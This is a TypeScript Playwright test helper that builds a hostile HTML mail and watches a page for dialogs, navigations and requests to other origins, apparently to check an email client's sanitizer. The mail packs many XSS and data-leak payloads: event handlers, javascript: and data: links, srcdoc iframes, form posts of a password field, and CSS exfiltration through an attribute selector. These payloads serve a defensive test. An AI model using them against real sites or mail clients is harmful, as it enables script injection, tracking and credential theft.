import type { Page } from 'playwright/test';

/** Everything a mail could try, aimed at `host`. Anything that runs calls `alert` or asks `host` for something. */
export const hostile = (host: string) => `
<html><head><base href="${host}/base/" target="_top"><title>taken over</title>
<meta http-equiv="refresh" content="0;url=${host}/refresh">
<link rel="stylesheet" href="${host}/link.css"><link rel="preload" as="image" href="${host}/preload.png">
<link rel="prefetch" href="${host}/prefetch"><link rel="dns-prefetch" href="${host}"><link rel="preconnect" href="${host}">
<script src="${host}/script.js"></script><script>alert('script'); top.location = '${host}/top'</script>
<style>@import url("${host}/import.css"); @font-face { font-family: x; src: url(${host}/font) } body { background: url(${host}/background.png); font-family: x }</style>
</head><body onload="alert('onload')" background="${host}/body.png">
<p>Words that can be read</p>
<img src="${host}/pixel.png" onerror="alert('onerror')"><img src="x" onerror="alert('relative')">
<img srcset="${host}/srcset.png 1x"><video poster="${host}/poster.png" src="${host}/video" autoplay></video><audio src="${host}/audio" autoplay></audio>
<form action="${host}/form" target="_top"><input name="password" value="secret"><button>Send it</button></form>
<svg onload="alert('svg')"><script>alert('svg script')</script><image href="${host}/svg.png"/><use href="${host}/use.svg#x"/></svg>
<iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;&lt;img src='${host}/srcdoc.png'&gt;"></iframe>
<iframe src="${host}/frame"></iframe><object data="${host}/object"></object><embed src="${host}/embed">
<a href="javascript:alert('link')">a script link</a> <a href="${host}/linked" target="_top" ping="${host}/ping">an outside link</a>
<details open ontoggle="alert('toggle')"><summary>more</summary></details><input autofocus onfocus="alert('focus')">
<math><a xlink:href="javascript:alert('math')">formula</a></math><p style="background:url(${host}/style.png)">styled</p>
<a href="data:text/html,<script>alert('data')</script>" target="_top">a data link</a> <a href="vbscript:alert(1)">an old link</a>
<svg><a href="javascript:alert('svg link')"><text y="20">a drawn link</text></a><animate attributeName="href" values="javascript:alert('animate')"/>
<foreignObject><iframe srcdoc="&lt;script&gt;top.location='${host}/foreign'&lt;/script&gt;"></iframe></foreignObject></svg>
<iframe sandbox="allow-scripts allow-top-navigation allow-same-origin" srcdoc="&lt;script&gt;top.location='${host}/loosened'&lt;/script&gt;"></iframe>
<style>input[value^="s"] { background-image: url(${host}/leak-s) } @media (min-width: 1px) { p { list-style-image: url(${host}/leak-media) } }
p::before { content: url(${host}/leak-content) } p { cursor: url(${host}/leak-cursor), auto; border-image: url(${host}/leak-border) 1 }
:root { --leak: url(${host}/leak-variable) } body { mask-image: image-set("${host}/leak-set" 1x); background: var(--leak) }</style>
<noscript><img src="${host}/noscript.png"></noscript><template><img src="${host}/template.png"></template>
<button form="outside" formaction="${host}/formaction" formtarget="_top">Send it elsewhere</button><form id="outside"></form>
</body></html>`;

/** What must not happen to a page: dialogs, navigations of the whole, requests that reach others than `origin`. */
export function watch(page: Page, origin: string): string[] {
  const harm: string[] = [];
  page.on('dialog', (dialog) => {
    harm.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame() && !frame.url().startsWith(origin))
      harm.push(`navigation: ${frame.url()}`);
  });
  // What the policy of the document blocks is never finished: it did not leave the browser.
  page.on('requestfinished', (request) => {
    const url = request.url();
    if (!url.startsWith(`${origin}/`) && !/^(data|about|blob):/.test(url)) harm.push(`request: ${url}`);
  });
  return harm;
}
